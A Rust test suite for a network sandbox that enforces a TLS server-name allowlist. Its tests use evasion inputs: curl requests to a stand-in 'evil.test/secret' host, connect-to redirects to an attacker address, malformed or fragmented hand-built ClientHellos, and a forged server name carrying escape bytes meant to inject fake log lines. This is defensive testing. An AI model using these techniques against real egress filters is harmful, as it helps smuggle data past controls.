//! TLS: the name in the ClientHello decides, however it arrives, and nobody in between looks inside.

use std::time::Duration;

use crate::jail::Jail;
use crate::suite::{Mode, Suite, both};
use crate::world::{World, authority};

const AT_ONCE: Duration = Duration::from_secs(1);

pub(crate) fn add(suite: &mut Suite) {
    both!(
        suite,
        allowed_host_works,
        denied_host_fails_at_once,
        nobody_intercepts,
        allowed_name_at_the_attackers_address,
        foreign_name_at_an_allowed_address,
        no_name_at_all,
        empty_name,
        hello_in_pieces,
        other_port,
        deny_wins,
        forged_name_in_the_log,
    );
}

fn allowed_host_works(mode: Mode) {
    let world = World::new();
    let site = world.site("good.test");
    for rule in ["good.test", "https://good.test", "https://good.test/", "good.test:443", "good.test:*"] {
        let outcome = Jail::new(&world, mode).allow(rule).run(["curl", "-sS", "https://good.test/"]);
        outcome.assert_success().assert_stdout("hello from good.test\n").assert_allowed("tls", "good.test");
    }
    assert_eq!(site.requests().len(), 5);
    world.assert_attacker_saw_nothing();
}

fn denied_host_fails_at_once(mode: Mode) {
    let world = World::new();
    world.site("good.test");
    let outcome = Jail::new(&world, mode).allow("good.test").run(["curl", "-sS", "https://evil.test/secret"]);
    outcome.assert_code(6).assert_says("could not resolve host").assert_faster_than(AT_ONCE);
    world.assert_attacker_saw_nothing();
    Jail::direct(&world, mode).run(["curl", "-sS", "https://evil.test/secret"]).assert_stdout("evil\n");
    assert!(world.attacker().heard(b"/secret"));
}

fn nobody_intercepts(mode: Mode) {
    let world = World::new();
    world.site("good.test");
    let pem = authority().pem().to_str().unwrap();
    let jail = Jail::new(&world, mode).allow("good.test");
    jail.helper(&["bundled-roots", "good.test", pem]).assert_success().assert_says("hello from good.test");
    jail.helper(&["bundled-roots", "evil.test", pem]).assert_failure().assert_faster_than(AT_ONCE);
    world.assert_attacker_saw_nothing();
}

fn allowed_name_at_the_attackers_address(mode: Mode) {
    let world = World::new();
    world.site("good.test");
    let forged = [
        "curl",
        "-sS",
        "--max-time",
        "5",
        "--connect-to",
        "good.test:443:198.51.100.66:443",
        "https://good.test/secret",
    ];
    Jail::new(&world, mode).allow("good.test").run(forged);
    world.assert_attacker_saw_nothing();
    Jail::direct(&world, mode).run(forged).assert_success();
    assert!(world.attacker().heard(b"/secret"));
}

fn foreign_name_at_an_allowed_address(mode: Mode) {
    let world = World::new();
    let site = world.site("good.test");
    let to = format!("evil.test:443:{}:443", site.v4);
    let script = format!("getent hosts good.test && exec curl -sS -k --connect-to {to} https://evil.test/");
    let outcome = Jail::new(&world, mode).allow("good.test").shell(&script);
    outcome.assert_code(35).assert_says("access denied").assert_faster_than(AT_ONCE);
    outcome.assert_denied("tls", "evil.test", "not-allowed");
    // A rule for the address is no rule for whoever else is served there.
    let jail = Jail::new(&world, mode).allow("good.test").allow(&format!("{}:443", site.v4));
    let outcome = jail.run(["curl", "-sS", "-k", "--connect-to", &to, "https://evil.test/"]);
    outcome.assert_code(35).assert_denied("tls", "evil.test", "not-allowed");
    assert_eq!(site.connections(), 0);
}

fn no_name_at_all(mode: Mode) {
    let world = World::new();
    let site = world.site("good.test");
    let script = "\
import socket, ssl
context = ssl.create_default_context()
context.check_hostname = False
try:
    context.wrap_socket(socket.create_connection(('good.test', 443), 3))
    print('connected')
except OSError as error:
    print('refused', error)
";
    let outcome = Jail::new(&world, mode).allow("good.test").python(script);
    outcome.assert_success().assert_says("refused");
    let about = [site.v4.to_string(), site.v6.to_string(), "good.test".to_owned()];
    assert!(
        outcome.denied().iter().any(|event| event.reason.as_deref() == Some("no-sni")
            && event.dst.iter().chain(&event.name).any(|subject| about.iter().any(|a| subject.contains(a)))),
        "{outcome}"
    );
    Jail::direct(&world, mode).python(script).assert_stdout("connected\n");
}

/// A server name extension that has a name of no letters, and one without any.
fn empty_name(mode: Mode) {
    let world = World::new();
    let site = world.site("good.test");
    let script = "\
import socket, ssl, struct
into, out = ssl.MemoryBIO(), ssl.MemoryBIO()
tls = ssl.create_default_context().wrap_bio(into, out, server_hostname='abcdefgh.test')
try: tls.do_handshake()
except ssl.SSLWantReadError: pass
hello = out.read()
start = hello.index(b'abcdefgh.test') - 9
for extension in (b'\\0\\0\\0\\5\\0\\3\\0\\0\\0', b'\\0\\0\\0\\2\\0\\0', b'\\0\\0\\0\\0'):
    shorter = 22 - len(extension)
    body = hello[5:start] + extension + hello[start + 22:]
    # The lengths of the handshake message and of its extensions, which follow session, suites and compression.
    at = 38 + 1 + body[38]
    at += 2 + int.from_bytes(body[at:at + 2], 'big')
    at += 1 + body[at]
    total = int.from_bytes(body[at:at + 2], 'big') - shorter
    body = body[:1] + (len(body) - 4).to_bytes(3, 'big') + body[4:at] + struct.pack('>H', total) + body[at + 2:]
    s = socket.create_connection(('good.test', 443), 3)
    s.settimeout(3)
    s.sendall(hello[:3] + struct.pack('>H', len(body)) + body)
    try: print('alert' if s.recv(100)[:1] == b'\\x15' else 'answered')
    except OSError: print('reset')
";
    let outcome = Jail::new(&world, mode).allow("good.test").python(script);
    outcome.assert_success();
    assert!(!outcome.stdout.contains("answered"), "{outcome}");
    let malformed =
        outcome.denied().iter().filter(|event| event.reason.as_deref() == Some("malformed")).count();
    assert_eq!(malformed, 3, "{outcome}");
    assert_eq!(site.connections(), 0);
}

/// Makes a ClientHello for a name, with `size` bytes of protocol names, sends it to good.test in a certain way, and
/// says what came back.
const HELLO: &str = r#"
import socket, ssl, struct, sys
name, way, size = sys.argv[1], sys.argv[2], int(sys.argv[3])
context = ssl.create_default_context()
if size:
    context.set_alpn_protocols(["http/1.1"] + ["x" * 200] * (size // 201))
into, out = ssl.MemoryBIO(), ssl.MemoryBIO()
tls = context.wrap_bio(into, out, server_hostname=name)
try: tls.do_handshake()
except ssl.SSLWantReadError: pass
hello = out.read()
assert len(hello) >= size, len(hello)
s = socket.create_connection(("good.test", 443), 5)
s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
if way == "bytes":
    for byte in hello: s.send(bytes([byte]))
elif way == "records":
    body = hello[5:]
    for start in range(0, len(body), 50):
        part = body[start:start + 50]
        s.send(hello[:3] + struct.pack(">H", len(part)) + part)
else:
    s.sendall(hello)
try:
    while True:
        into.write(s.recv(65536) or sys.exit("closed"))
        try:
            tls.do_handshake()
            break
        except ssl.SSLWantReadError:
            s.sendall(out.read())
    s.sendall(out.read())
    print("connected")
except OSError as error:
    print("refused", error)
"#;

fn hello_in_pieces(mode: Mode) {
    let world = World::new();
    let site = world.site("good.test");
    let jail = Jail::new(&world, mode).allow("good.test");
    for (way, size) in
        [("whole", 0), ("bytes", 0), ("records", 0), ("whole", 3000), ("records", 3000), ("whole", 16000)]
    {
        let size = size.to_string();
        let say = |name| jail.run(["/usr/bin/python3", "-c", HELLO, name, way, &size]);
        say("good.test").assert_success().assert_stdout("connected\n");
        let before = site.connections();
        let denied = say("evil.test");
        assert!(!denied.stdout.contains("connected"), "{way} {size}: {denied}");
        assert_eq!(site.connections(), before, "{way} {size}");
        denied.assert_denied("tls", "evil.test", "not-allowed");
    }
}

fn other_port(mode: Mode) {
    let world = World::new();
    let site = world.site("good.test");
    world.open_port(&site, 8443, true);
    let url = "https://good.test:8443/";
    let denied = Jail::new(&world, mode).allow("good.test").run(["curl", "-sS", url]);
    denied.assert_failure().assert_faster_than(AT_ONCE);
    for rule in ["good.test:8443", "good.test:8000-8500", "good.test:*"] {
        Jail::new(&world, mode).allow(rule).run(["curl", "-sS", url]).assert_success();
    }
    assert_eq!(site.connections(), 3);
}

fn deny_wins(mode: Mode) {
    let world = World::new();
    let site = world.site("bad.good.test");
    let jail = Jail::new(&world, mode).allow("**.good.test").deny("bad.good.test");
    jail.run(["curl", "-sS", "https://bad.good.test/"]).assert_code(6);
    assert_eq!(site.connections(), 0);
    assert!(!world.dns().was_asked_for("bad.good.test"));
}

fn forged_name_in_the_log(mode: Mode) {
    let world = World::new();
    let site = world.site("good.test");
    let script = format!(
        "import socket, ssl, sys, time\n\
         socket.getaddrinfo('good.test', 443)\n\
         into, out = ssl.MemoryBIO(), ssl.MemoryBIO()\n\
         tls = ssl.create_default_context().wrap_bio(into, out, server_hostname='aaaaaaaaaaaaaaaa.test')\n\
         try: tls.do_handshake()\n\
         except ssl.SSLWantReadError: pass\n\
         hello = out.read().replace(b'aaaaaaaaaaaaaaaa', b'\\n\\x1b[2J{{\"verdict\"')\n\
         s = socket.create_connection(('{}', 443), 5)\n\
         s.sendall(hello)\n\
         s.recv(100)\n",
        site.v4
    );
    let jail = Jail::new(&world, mode).allow("good.test").without_log_file();
    let outcome = jail.python(&script);
    assert!(!outcome.stderr.contains('\x1b'), "{outcome}");
    assert!(
        outcome.stderr.lines().all(|line| line.starts_with("cijail-net:") || !line.contains("verdict")),
        "{outcome}"
    );
    assert_eq!(site.connections(), 0);
}
